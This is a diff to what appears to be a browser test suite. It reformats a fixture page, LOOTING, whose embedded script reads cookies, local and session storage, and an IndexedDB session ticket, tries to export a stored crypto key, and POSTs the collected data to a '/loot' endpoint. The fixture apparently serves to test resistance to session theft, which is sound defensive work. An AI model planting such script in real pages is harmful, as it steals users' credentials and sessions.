@@ -25,9 +25,11 @@ pytestmark = pytest.mark.browser
 LOOTING = b"""<!doctype html><title>loaderwatch</title><script>
 (async () => {
   const kept = await new Promise(done => indexedDB.open("loaderwatch").onsuccess = opened =>
-    opened.target.result.transaction("session").objectStore("session").get("newest").onsuccess = got => done(got.target.result));
+    opened.target.result.transaction("session").objectStore("session").get("newest")
+      .onsuccess = got => done(got.target.result));
   const raw = await crypto.subtle.exportKey("raw", kept.key).then(() => "taken", error => error.name);
-  const loot = {cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage}, ticket: kept.ticket, raw};
+  const stored = {local: {...localStorage}, session: {...sessionStorage}};
+  const loot = {cookie: document.cookie, ...stored, ticket: kept.ticket, raw};
   await fetch("/loot", {method: "POST", body: JSON.stringify(loot)});
 })();
 </script>"""
